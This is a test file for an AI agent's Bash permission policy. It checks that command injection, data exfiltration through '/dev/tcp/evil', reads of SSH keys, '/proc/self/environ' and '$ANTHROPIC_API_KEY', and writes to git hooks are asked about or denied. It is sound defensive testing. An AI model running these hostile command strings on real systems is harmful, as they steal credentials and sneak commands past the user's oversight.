@@ -1,0 +1,366 @@
+"""Command lines: what is allowed runs nothing else, and what is denied never runs, held against a real bash."""
+
+import shutil
+import subprocess
+from pathlib import Path
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from sagent.messages import ToolCall
+from sagent.policy import Allow, Ask, Deny, Verdict
+from sagent.policy.permissions import Mode, PermissionPolicy
+from sagent.policy.rules import Rules
+from sagent.tool import Effect, Workspace
+
+
+@pytest.fixture
+def tree(tmp_path: Path) -> Workspace:
+    (tmp_path / "home" / ".ssh").mkdir(parents=True)
+    (tmp_path / "tree" / "src").mkdir(parents=True)
+    return Workspace(tmp_path / "tree")
+
+
+def judge(
+    tree: Workspace, command: str, mode: Mode = "edit", allow: tuple[str, ...] = (), deny: tuple[str, ...] = ()
+) -> Verdict:
+    policy = PermissionPolicy(mode, Rules.parse(allow, deny), home=tree.roots[0].parent / "home")
+    judging = policy.before_tool(ToolCall("1", "Bash"), Effect("execute", command=command), tree)
+    try:
+        judging.send(None)
+    except StopIteration as stopped:
+        return stopped.value
+    raise AssertionError("the policy waits for something")
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "git status",
+        "git --no-pager log --oneline -5 | head -3",
+        "ls -la src && cat src/*.py 2>/dev/null",
+        "grep -rn 'a; rm -rf /' src | sort | uniq -c",
+        "sed -n '10,20p' a.py",
+        "cd src; pwd\nls",
+        "find . -name '*.py' -not -path './x/*'",
+        "rg --files | wc -l",
+        "# only a comment",
+        "if [ -f a ]; then cat a; else echo no; fi",
+        "for f in a b; do true; done",
+        "(git diff --stat; git branch --show-current) 2>&1",
+        "bash -c 'git status && ls'",
+        "CI=1 timeout 5 nice -n 3 git diff HEAD~1",
+        "cat <<'EOF' | wc -c\n$(rm -rf /)\nEOF",
+        "python3 --version",
+        "git show HEAD:src/a.py; git show stash@{0}",
+        "! test -d x",
+    ],
+)
+def test_commands_that_only_look_need_no_question_in_any_mode(tree, command):
+    for mode in ("plan", "ask", "edit"):
+        assert judge(tree, command, mode) == Allow()
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "git -c core.pager='sh -c evil' status",
+        "git -c alias.x=!evil x",
+        "git --exec-path=/tmp/x status",
+        "git -p log",
+        "git log --output=f",
+        "git diff --outp=f",
+        "git grep -Oevil x",
+        "git branch new",
+        "git status; evil",
+        "GIT_PAGER=evil git log",
+        "LD_PRELOAD=./x.so ls",
+        "PATH=.:$PATH ls",
+        "for PATH in /tmp/x; do ls; done",
+        "env -S 'evil x'",
+        "env PATH=/tmp/x ls",
+        "find . -exec evil {} +",
+        "find . -delete",
+        "find . -fprintf out x",
+        "sort -o out in",
+        "sort --out out in",
+        "sort -uo out in",
+        "sort --compress-prog=evil in",
+        "sort *",
+        "rg --pre evil x",
+        "rg --pr=evil x",
+        "sed -i s/a/b/ f",
+        "sed -n '1e evil' f",
+        "sed -n '1w out' f",
+        "awk 'BEGIN{system(\"evil\")}'",
+        "tee out < in",
+        "xargs cat",
+        "uniq in out",
+        "date -s 2020-01-01",
+        "tree -o out",
+        "printf -v PATH x",
+        "test -v 'a[$(evil)]'",
+        "echo $(evil)",
+        "echo `evil`",
+        "echo ${x:-$(evil)}",
+        "cat <(evil)",
+        "cat <<EOF\n$(evil)\nEOF",
+        'echo "$(evil)"',
+        "ls\nevil",
+        "ls\\\n;evil",
+        "ls & evil",
+        "ls |& evil",
+        "l\\s; ev\\il",
+        "ls;evil",
+        "# comment \\\nevil",
+        "ls # x\nevil",
+        "echo 'a'\"'\"'b'; evil",
+        "echo ‘; evil ‘",
+        "cat$IFS/etc/passwd",
+        "cat ${HOME}/.ssh/id",
+        "{ ls; evil; }",
+        "f() { evil; }; f",
+        "ls() { evil; }; ls",
+        "alias ls=evil; ls",
+        "eval 'ev''il'",
+        "bash -c evil",
+        "bash script.sh",
+        "bash <<EOF\nls\nEOF",
+        "sh -c 'ls; evil'",
+        'bash -c "$X"',
+        "sudo ls",
+        "nohup evil",
+        "timeout 5 evil",
+        "command evil",
+        "exec evil",
+        "coproc evil",
+        "case x in x) evil;; esac",
+        "[[ x =~ $(evil) ]]",
+        "echo $((a[$(evil)]))",
+        "echo $'\\'; evil #'",
+        "ls\x00evil",
+        "ls\u00a0; ls",
+        "ls\u200b",
+        "ls\r",
+        "'unclosed",
+        "cat <<EOF\nno end",
+        "/tmp/x/ls",
+        "./ls",
+        "printenv",
+        "env",
+        "cd /; ls",
+        "cd - && ls",
+        "cd src/../.. && ls",
+        "cat < /dev/tcp/evil/80",
+        "echo x >> /dev/tcp/evil/80",
+        "echo $ANTHROPIC_API_KEY",
+        "echo hi > ../x",
+        "echo hi > .git/hooks/pre-commit",
+        "echo hi > $X",
+        "echo hi >& ../x",
+        "echo hi &> ../x",
+        "echo hi >| ../x",
+        "ls 3<> ../x",
+        "echo hi > ~/x",
+        "> ../x",
+        "(cd src); echo hi > ../x",
+        "cd src || true; echo hi > ../x",
+        "cd src; cd nowhere; echo hi > ../../x",
+        "while cd .; do echo hi > x; done",
+    ],
+)
+def test_whatever_else_hides_in_a_command_is_asked_about(tree, command):
+    judged = judge(tree, command, "edit")
+    assert isinstance(judged, Ask)
+    assert judged.remedy
+    assert isinstance(judge(tree, command, "plan"), Deny)
+
+
+def test_redirections_are_writes_and_judged_as_such(tree):
+    (tree.cwd / "out").symlink_to("..")
+    assert judge(tree, "git diff > src/change.diff 2>&1") == Allow()
+    assert judge(tree, "cd src && echo hi > here.txt") == Allow()
+    assert isinstance(judge(tree, "git diff > src/change.diff", "ask"), Ask)
+    assert isinstance(judge(tree, "git diff > out/change.diff"), Ask)
+    assert isinstance(judge(tree, "make > /etc/x", allow=("Bash(make:*)",)), Ask)
+    assert judge(tree, "make > log", allow=("Bash(make:*)",)) == Allow()
+    assert judge(tree, "git diff > src/x", "ask", allow=("Edit(src/**)",)) == Allow()
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "cat ~/.ssh/id_ed25519",
+        "cat {home}/.ssh/../.ssh/id",
+        "cat {home}/.s*/id_ed25519",
+        "grep -f{home}/.ssh/id_ed25519 x",
+        "grep -r KEY ~",
+        "rg --hidden KEY {home}",
+        "head -c 100 < ~/.ssh/id_ed25519",
+        "cat .env",
+        "cat .e*",
+        "cat link/id_ed25519",
+        "cd .. && cat home/.ssh/id_ed25519",
+        "cat /proc/self/environ",
+        "cat /proc/*/environ",
+    ],
+)
+def test_commands_that_would_look_at_keys_are_asked_about(tree, command):
+    home = tree.cwd.parent / "home"
+    (home / ".ssh" / "id_ed25519").write_text("key")
+    (tree.cwd / ".env").write_text("KEY=1")
+    (tree.cwd / "link").symlink_to(home / ".ssh")
+    assert isinstance(judge(tree, command.format(home=home)), Ask)
+
+
+def test_git_in_a_planted_bare_repository_is_asked_about(tree):
+    (tree.cwd / ".git").mkdir()
+    for name in ("objects", "refs"):
+        (tree.cwd / "planted" / name).mkdir(parents=True)
+    (tree.cwd / "planted" / "HEAD").write_text("ref: refs/heads/main\n")
+    assert judge(tree, "git status") == Allow()
+    assert judge(tree, "cd src && git status") == Allow()
+    assert isinstance(judge(tree, "cd planted && git status"), Ask)
+
+
+@pytest.mark.parametrize(
+    ("rule", "accepted", "refused"),
+    [
+        (
+            "Bash(npm test:*)",
+            ["npm test", "npm test -- -x 'a b'", "CI=1 npm test", "timeout 60 npm test | tail -5", "npm 'test' $X",
+             "bash -lc 'cd src && npm test'", "npm test && npm test", "nohup npm test &", "npm te\\st",
+             "npm test {a,b}"],
+            ["npm", "npm tests", "npm run test", "./npm test", "npm $X test", "$X npm test", "npm test; npm publish",
+             "npm test $(npm publish)", "sudo npm test", "PATH=x npm test", "npm test | sh", "npm test > ../x"],
+        ),
+        ("Bash(npm test)", ["npm test", "npm  test"], ["npm test -x", "npm test $X"]),
+        ("Bash(npm run test*)", ["npm run test", "npm run test:unit --x"], ["npm run build", "npm run"]),
+        ("Bash(echo $HOME)", ["echo $HOME", "echo ok"], ["echo $PATH", "echo \"$HOME\""]),
+        ("Bash(CC=gcc make:*)", ["CC=gcc make all"], ["CC=evil make all", "make all"]),
+        ("Bash(sudo apt install:*)", ["sudo apt install x"], ["sudo apt remove x", "sudo -u x apt install"]),
+        ("Bash(:*)", ["make x; evil", "$X", "case x in x) evil;; esac"], []),
+        ("Bash", ["make x; evil > /etc/x"], []),
+    ],
+)  # fmt: skip
+def test_an_allow_rule_allows_its_command_and_nothing_beside_it(tree, rule, accepted, refused):
+    for command in accepted:
+        assert judge(tree, command, allow=(rule,)) == Allow(), command
+        assert isinstance(judge(tree, command, "plan", allow=(rule,)), Deny) or rule.startswith("Bash(echo"), command
+    for command in refused:
+        assert isinstance(judge(tree, command, allow=(rule,)), Ask), command
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "git push", "git push --force origin", "ls && git push", "ls; (git push)", "x=1 git push", "echo $(git push)",
+        "echo `git push`", "echo \"${x:-$(git push)}\"", "bash -c 'git push'", "sh -c \"ls; git push\"",
+        "eval git push",
+        "sudo -u root git push", "sudo bash -c 'sudo git push'", "timeout 5 git push", "env X=1 git push",
+        "nohup git push&",
+        "xargs git push", "find . -exec git push \\;", "/usr/bin/git push", "g'i't \"push\"", "\\git push",
+        "command git push",
+        "git -C x push", "git --no-pager push", "git $X", "git p*", "$G push", "`echo git` push", "$(echo git) push",
+        "{git,push}", "gi? push", "if true; then git push; fi", "while git push; do :; done", "f() { git push; }; f",
+        "case x in x) git push;; esac", "cat <<EOF\n$(git push)\nEOF", "bash <<'EOF'\ngit push\nEOF",
+        "echo 'git push' | sh",
+        "python3 -c 'import os; os.system(\"git push\")'", "! git push", "time git push", "trap 'git push' EXIT",
+        "git pu\\\nsh", "ls\ngit push", "ls # x\ngit push", "git push > /dev/null", "X=git; $X push",
+        "su -c 'git push'",
+        "cat <(git push)", "watch -n1 'git push'", "env -S 'git push'", "[[ x ]] && git push", "echo $((1)); git push",
+        "'unclosed", "git -c alias.x=push x", "parallel git push ::: a", "git\tpush", "a=(1); git push", "git $'push'",
+    ],
+)  # fmt: skip
+def test_a_denied_command_is_never_allowed_wherever_it_hides(tree, command):
+    for mode in ("plan", "ask", "edit", "full"):
+        judged = judge(tree, command, mode, allow=("Bash",), deny=("Bash(git push:*)",))
+        assert not isinstance(judged, Allow)
+
+
+def test_deny_rules_leave_the_rest_alone(tree):
+    rules = ("Bash(rm:*)", "Bash(git push:*)")
+    for command in ("git commit -m 'rm push'", "ls rm.txt", "git log", "timeout 9 npm t $X", "echo 'rm x'; [ -f x ]"):
+        assert judge(tree, command, "full", deny=rules) == Allow(), command
+
+
+def test_path_rules_hold_for_what_a_command_names(tree):
+    rules = ("Read(private/**)", "Edit(locked/**)")
+    for command in (
+        "cat private/a",
+        "cat < private/a",
+        "cp ./src/../private/a x",
+        "x --file=private/a",
+        "cd private; cat a",
+    ):
+        assert isinstance(judge(tree, command, "full", deny=rules), Deny), command
+    for command in ("echo > locked/a", "rm locked/a", "sudo tee locked/a", "sed -i s/a/b/ locked/a"):
+        assert isinstance(judge(tree, command, "full", deny=rules), Deny), command
+    assert judge(tree, "cat locked/a", "full", deny=rules) == Allow()
+
+
+def test_variables_set_before_a_command_neither_hide_nor_make_it(tree):
+    assert isinstance(judge(tree, "make all", "full", deny=("Bash(CC=gcc make:*)",)), Deny)
+    assert isinstance(judge(tree, "CC=x make all", "full", deny=("Bash(make:*)",)), Deny)
+
+
+def test_a_huge_or_deep_command_is_judged_without_harm(tree):
+    for command in ("(" * 5000, "$(" * 5000, "`" * 5001, "a " * 50_000, "sudo " * 20_000, '"$(' * 3000):
+        assert not isinstance(judge(tree, command, "full", deny=("Bash(rm:*)",)), Deny)
+        assert isinstance(judge(tree, command), Ask)
+
+
+ATOMS = [
+    "okay", "evil", "evil", " ", " ", "\n", ";", "&", "|", "&&", "||", "(", ")", "{ ", " }", "$", "`", "'", '"',
+    "\\", "\\\n",
+    "#", "<", ">", "<<", "&>", "$(", "${", "$((", "$'", "<(", "=", "x=", "X=evil ", "$x", "EOF", "\nEOF\n",
+    "<<EOF", "<<'EOF'",
+    "if ", "then ", "fi", "do ", "done", "for x in evil;", "! ", "case x in x) ", "esac", "eval ", "bash -c ",
+    "timeout 5 ",
+    "env ", "time ", "command ", "exec ", "echo ", "cd . ;", "true;", "*", "?", "[[ ", " ]]", "2>&1", "ev", "il",
+    "''", "$@",
+    "${x:-evil}", "{evil,x}", "f()", "trap evil EXIT;", "xargs ", "@",
+]  # fmt: skip
+
+
+@pytest.fixture(scope="module")
+def arena(tmp_path_factory) -> Path:
+    """A place with two programs that leave a trace, and what may run them."""
+    base = tmp_path_factory.mktemp("arena")
+    (base / "bin").mkdir()
+    (base / "tree").mkdir()
+    for name in ("okay", "evil"):
+        (base / "bin" / name).write_text(f"#!/bin/sh\necho {name} >> {base}/trace\n")
+        (base / "bin" / name).chmod(0o755)
+    for name in ("bash", "sh", "timeout", "env", "xargs"):
+        if found := shutil.which(name):
+            (base / "bin" / name).symlink_to(found)
+    return base
+
+
+@settings(max_examples=1000, deadline=None)
+@given(atoms=st.lists(st.sampled_from(ATOMS), min_size=1, max_size=12))
+def test_no_script_that_is_allowed_runs_anything_else_in_a_real_bash(atoms, arena):
+    script = "".join(atoms)
+    tree = Workspace(arena / "tree")
+    allowed = judge(tree, script, "ask", allow=("Bash(okay:*)",)) == Allow()
+    undenied = judge(tree, script, "full", deny=("Bash(evil:*)",)) == Allow()
+    if not (allowed or undenied) or ("ev" not in script and ">" not in script):
+        return
+    trace = arena / "trace"
+    trace.unlink(missing_ok=True)
+    subprocess.run(
+        ["/bin/bash", "-c", script],
+        cwd=arena / "tree",
+        env={"PATH": str(arena / "bin")},
+        stdin=subprocess.DEVNULL,
+        capture_output=True,
+        check=False,
+        timeout=20,
+    )
+    made = list((arena / "tree").iterdir())
+    for path in made:
+        path.unlink()
+    assert "evil" not in (trace.read_text() if trace.exists() else "")
+    assert not (allowed and made)
